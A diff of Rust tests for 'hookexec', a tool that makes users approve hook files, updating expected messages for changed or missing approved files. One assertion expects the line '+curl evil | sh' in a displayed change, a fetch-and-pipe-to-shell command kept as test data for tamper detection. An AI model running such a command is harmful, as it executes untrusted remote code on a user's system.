@@ -63,7 +63,7 @@ tool_guard:
         assert!(run(event, tool).exits(2).stdout.contains(said), "{event}");
     }
     let shown = sandbox.hookexec(["trust", "show"]).run().exits(1);
-    assert!(shown.stdout.contains("hooks.yaml: a named file changed"), "{shown:?}");
+    assert!(shown.stdout.contains("hooks.yaml: changed\n"), "{shown:?}");
     assert!(shown.stdout.contains("+curl evil | sh"), "{shown:?}");
 
     sandbox.trust();
@@ -242,7 +242,7 @@ fn an_approved_file_that_is_gone_is_reported_at_every_event() {
     fs::remove_file(sandbox.project().join("hooks.yaml")).unwrap();
     gone("[SANDBOX]/project/hooks.yaml");
     let shown = sandbox.hookexec(["trust"]).run().exits(1);
-    assert!(shown.stdout.contains("hooks.yaml: gone"), "{shown:?}");
+    assert!(shown.stdout.contains("hooks.yaml: this approved file is gone"), "{shown:?}");
     let advice = "restore hooks.yaml, or run `hookexec trust remove hooks.yaml`";
     assert!(shown.stderr.contains(advice), "{shown:?}");
     assert!(!shown.stderr.contains("trust add"), "{shown:?}");
@@ -397,7 +397,7 @@ fn a_script_that_is_listed_is_covered() {
         let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
         assert!(run.stdout.contains("`Makefile` changed after its approval"), "{run:?}");
         let shown = sandbox.hookexec(["trust"]).run().exits(1);
-        assert!(shown.stdout.contains("hooks.yaml: a named file changed"), "{shown:?}");
+        assert!(shown.stdout.contains("hooks.yaml: changed\n"), "{shown:?}");
     }
     fs::remove_file(sandbox.project().join("Makefile")).unwrap();
     let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
@@ -409,7 +409,7 @@ fn a_script_that_is_listed_is_covered() {
     assert!(check.stderr.contains(restore), "{check:?}");
     assert!(check.stderr.contains("is gone: its hooks fail"), "{check:?}");
     let shown = sandbox.hookexec(["trust"]).run().exits(1);
-    assert!(shown.stdout.contains("hooks.yaml: a named file is gone"), "{shown:?}");
+    assert!(shown.stdout.contains("hooks.yaml: changed\n"), "{shown:?}");
     let refused = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(65);
     assert!(refused.stderr.contains(missing), "{refused:?}");
     assert!(refused.stderr.contains("hint: restore or create it, or take it out"), "{refused:?}");
@@ -514,7 +514,7 @@ fn a_script_that_is_gone_fails_the_hooks_file() {
         fs::remove_file(&path).unwrap();
         refused();
         let shown = sandbox.hookexec(["trust"]).run().exits(1);
-        assert!(shown.stdout.contains("hooks.yaml: a named file is gone"), "{command}: {shown:?}");
+        assert!(shown.stdout.contains("hooks.yaml: changed\n"), "{command}: {shown:?}");
         assert!(shown.stdout.contains(&format!("  gone: {file}\n")), "{command}: {shown:?}");
         assert!(!shown.stdout.contains("  covered: check.js"), "{command}: {shown:?}");
         // Neither a directory nor a link that leads nowhere is the script.
